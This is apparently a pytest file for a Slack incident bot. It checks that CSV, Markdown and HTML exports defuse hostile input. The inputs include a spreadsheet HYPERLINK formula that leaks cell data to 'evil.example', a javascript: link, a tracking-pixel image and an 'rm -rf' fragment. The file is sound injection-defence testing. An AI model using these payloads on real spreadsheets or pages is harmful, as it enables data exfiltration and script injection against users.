"""Exports requested from Slack (`/crisis export`) when people put hostile or awkward text in
the timeline: display names that are spreadsheet formulas, Markdown links in notes, Bulgarian
numbers in the evidence. Through the signed endpoint; the file is the one uploaded to Slack."""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Iterator

import pytest

from bot.core.clock import ManualClock
from bot.testing import Stack, start_stack
from tests.bot.flow import answer, open_storm
from tests.bot.test_response import PLAYBOOK

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.fixture(params=["en", "bg"])
def team(request: pytest.FixtureRequest, database_url: str, clock: ManualClock) -> Iterator[Stack]:
    s = start_stack(database_url, clock=clock,
                    config=dataclasses.replace(PLAYBOOK, locale=request.param))  # fmt: skip
    s.emulator.add_user("U0EVIL", FORMULA_NAME)
    s.emulator.add_user("U0PLUS", "+359 88 123 4567")
    yield s
    s.stop()


def _exported(team: Stack, number: int, fmt: str) -> str:
    team.slack.command(f"export {number} {fmt}", user_id="U0ALICE")
    uploaded = team.emulator.wait_for(
        lambda: [f for f in team.emulator.files.values() if f["name"].endswith(fmt)]
    )
    return bytes(uploaded[0]["content"]).decode("utf-8-sig")


def test_a_display_name_that_is_a_formula_is_text_in_the_csv(
    team: Stack, clock: ManualClock
) -> None:
    n = open_storm(team, clock)
    team.slack.command(f"claim {n}", user_id="U0EVIL")
    answer(team, f"#{n}")
    team.slack.command(f"claim {n}", user_id="U0PLUS")
    team.emulator.wait_for(lambda: len(team.emulator.responses) == 2)
    rows = list(csv.reader(io.StringIO(_exported(team, n, "csv"))))
    names = [r[3] for r in rows[1:]]
    assert "'" + FORMULA_NAME in names and "'+359 88 123 4567" in names
    formulas = [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert formulas == []


NOTE = "see ![pixel](http://tracker.example/p.png) and [the fix](javascript:alert(1)) `rm -rf`"


def test_links_and_images_in_a_note_stay_text_in_the_markdown(
    team: Stack, clock: ManualClock
) -> None:
    n = open_storm(team, clock)
    team.slack.command(f"note {n} {NOTE}", user_id="U0ALICE")
    answer(team, f"#{n}")
    md = _exported(team, n, "md")
    assert "![pixel](http" not in md and "[the fix](javascript" not in md
    assert "!\\[pixel\\](http://tracker.example/p.png)" in md
    assert "\\`rm -rf\\`" in md
    # The evidence's reasons read as text, not as Python's repr of a list: in Bulgarian the
    # numbers' no-break space came out as a literal "\xa0".
    timeline = md[md.index("\n| ", md.rindex("## ")) :]
    assert "\\xa0" not in timeline and "['" not in timeline
    reasons = "причини" if team.bot.config.locale == "bg" else "reasons"  # labelled for people
    assert f'{reasons}: \\["' in timeline
    page = _exported(team, n, "html")
    rows = page[page.index("<tbody>", page.rindex("<h2>")) :]  # the timeline table
    assert "\\xa0" not in rows and "[&#x27;" not in rows and f"{reasons}: [&quot;" in rows
